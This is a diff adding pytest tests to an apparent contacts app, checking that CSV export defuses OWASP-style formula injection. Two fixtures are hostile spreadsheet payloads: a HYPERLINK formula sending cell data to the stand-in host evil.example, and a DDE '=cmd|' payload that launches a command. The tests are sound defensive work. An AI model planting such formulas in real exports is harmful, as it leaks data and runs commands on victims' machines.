@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
+from app.imports.export import inert_cell
 from tests.conftest import (
     Api,
     Headers,
@@ -322,6 +323,44 @@ def test_contacts_as_csv(client: TestClient, headers: Headers) -> None:
     assert dana["Pain Points"] == "Finding the right firm to run our employee engagement survey"
     assert rows[1]["Expertise"] == "Running employee engagement surveys\nChoosing survey vendors"
     assert dana["Last Contacted On"] == date.today().isoformat()  # the article sent today
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(
+    client: TestClient, headers: Headers
+) -> None:
+    """OWASP CSV injection: a cell starting with = + - @ gets a leading quote; values that only
+    contain them, and the JSON export, are left as they are."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    make_contact(
+        client,
+        headers,
+        name=formula,
+        company="+1 555 0100",
+        title="-2+3",
+        field="@SUM(A1:A9)",
+        notes="a=b, c+d",
+        pain_points=["=cmd|' /C calc'!A0"],
+    )
+
+    response = client.get("/export/contacts.csv", headers=headers)
+
+    (row,) = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert row["Name"] == "'" + formula
+    assert (row["Company"], row["Title"], row["Field"]) == ("'+1 555 0100", "'-2+3", "'@SUM(A1:A9)")
+    assert row["Pain Points"] == "'=cmd|' /C calc'!A0"
+    assert (row["Notes"], row["Tier"]) == ("a=b, c+d", "B")
+    exported = export(client, headers)["contacts"][0]
+    assert (exported["name"], exported["company"]) == (formula, "+1 555 0100")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("\tx", "'\tx"), ("\r=1", "'\r=1"), ("-", "'-"), ("x-1", "x-1"), ("", ""), ("'=1", "'=1")],
+)
+def test_a_cell_starting_with_tab_or_cr_is_made_inert_too(value: str, cell: str) -> None:
+    """Stored text is stripped, so tab and CR never start a cell the API writes; the rule has
+    them anyway, as OWASP lists them."""
+    assert inert_cell(value) == cell
 
 
 def test_the_longest_url_exports_and_restores(api: Api) -> None:
